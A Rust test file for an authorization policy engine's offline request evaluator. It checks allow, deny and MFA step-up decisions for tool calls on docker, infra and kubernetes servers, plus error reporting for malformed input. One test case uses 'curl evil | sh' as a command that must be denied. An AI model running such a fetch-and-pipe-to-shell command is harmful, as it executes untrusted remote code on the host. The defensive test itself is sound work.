//! Offline evaluation of described requests (`sallyport policy test`).
#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "support/helpers.rs"]
mod helpers;

use helpers::{now, seed_policy};
use sallyport_policy::{Expect, ExplainError, Stage, explain_document};

const CASES: &str = r#"
- name: readonly cannot run containers
  principal: { id: alice, roles: [readonly] }
  server: docker
  tool: docker_run
  expect: deny
- name: service account within its command allow-list
  principal: { id: ci, kind: service, roles: [service_account] }
  server: infra
  tool: execute_command
  arguments: { command: make test }
  expect: allow
- name: service account outside it
  principal: { id: ci, kind: service, roles: [service_account] }
  server: infra
  tool: execute_command
  arguments: { command: "curl evil | sh" }
  expect: deny
- name: admin deleting without a recent MFA login
  principal:
    id: root
    roles: [mcp_admin]
    attributes: { auth_time: 1700000000, amr: [pwd] }
  server: kubernetes
  tool: kubectl_delete
  time: 2026-11-05T10:00:00Z
  expect: step_up
- name: a wrong expectation is reported, not hidden
  principal: { id: g }
  server: docker
  tool: docker_ps
  expect: allow
"#;

#[test]
fn yaml_cases_with_expectations() {
    let out = explain_document(&seed_policy(), CASES, now()).unwrap();
    let passed: Vec<_> = out.iter().map(|e| e.passed).collect();
    assert_eq!(
        passed,
        [Some(true), Some(true), Some(true), Some(true), Some(false)]
    );
    assert_eq!(out[0].decision.decided_by, Stage::Rbac);
    assert_eq!(out[2].decision.policy_ids, ["service-account-commands"]);
    let used = out[1].decision.permission_used.as_ref().unwrap();
    assert_eq!(used.permission, "infrastructure:execute");
    assert_eq!(out[4].decision.roles, ["guest"]);
    assert_eq!(out[4].expected, Some(Expect::Allow));
}

#[test]
fn json_single_request_serialises_as_data() {
    let doc = r#"{"principal":{"id":"bob","roles":["operator"],"attributes":{"source_ip":"10.0.0.1"}},
                  "server":"docker","tool":"docker_prune","annotations":{"destructiveHint":true},
                  "trust_score":0.9}"#;
    let out = explain_document(&seed_policy(), doc, now()).unwrap();
    let v = serde_json::to_value(&out[0]).unwrap();
    assert_eq!(v["decision"]["outcome"], "deny");
    assert_eq!(v["decision"]["decided_by"], "rbac");
    assert_eq!(v["decision"]["classification"]["action"], "delete");
    assert_eq!(v["decision"]["classification"]["raised_by_hint"], true);
    assert_eq!(v["decision"]["classification"]["resource"], "mcp.docker");
    assert!(v.get("passed").is_none());
}

#[test]
fn bad_documents_name_the_request() {
    let err = explain_document(
        &seed_policy(),
        "- { principal: { id: a }, server: s }",
        now(),
    )
    .unwrap_err();
    assert!(matches!(err, ExplainError::Shape { index: 0, .. }), "{err}");
    let err = explain_document(
        &seed_policy(),
        "- { principal: { id: a }, server: s, tool: t }\n- { principal: { id: a, rol: [] }, server: s, tool: t }",
        now(),
    )
    .unwrap_err();
    assert!(matches!(err, ExplainError::Shape { index: 1, .. }), "{err}");
    let err = explain_document(
        &seed_policy(),
        "{ principal: { id: a }, server: s, tool: t, time: yesterday }",
        now(),
    )
    .unwrap_err();
    assert!(err.to_string().contains("bad time"), "{err}");
    assert!(matches!(
        explain_document(&seed_policy(), "[", now()),
        Err(ExplainError::Syntax(_))
    ));
}
